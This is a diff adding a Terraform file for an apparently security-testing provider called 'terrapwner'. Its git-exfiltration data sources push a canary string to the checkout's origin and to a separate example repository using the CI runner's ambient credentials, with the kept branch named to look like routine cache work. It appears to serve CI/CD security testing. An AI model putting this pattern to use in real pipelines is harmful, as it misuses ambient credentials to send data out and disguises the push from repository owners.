@@ -0,0 +1,38 @@
+terraform {
+  required_providers {
+    terrapwner = {
+      source = "hashicorp.com/DataDog/terrapwner"
+    }
+  }
+}
+
+provider "terrapwner" {}
+
+# Push a canary branch to the origin of the checkout, then delete it
+data "terrapwner_git_exfil" "origin" {
+  content = "terrapwner-canary"
+}
+
+# Push to another repository with the same ambient credentials, keeping the branch
+data "terrapwner_git_exfil" "fork" {
+  content         = "terrapwner-canary"
+  repository_path = path.root
+  remote          = "https://github.com/example-org/scratch.git"
+  branch          = "ci/cache-warmup"
+  file_name       = "cache.txt"
+  cleanup         = false
+  timeout         = 30
+}
+
+# Output whether the pushes went through
+output "origin_push" {
+  value = {
+    pushed         = data.terrapwner_git_exfil.origin.pushed
+    branch_deleted = data.terrapwner_git_exfil.origin.branch_deleted
+    fail_reason    = data.terrapwner_git_exfil.origin.fail_reason
+  }
+}
+
+output "fork_commit" {
+  value = data.terrapwner_git_exfil.fork.commit
+}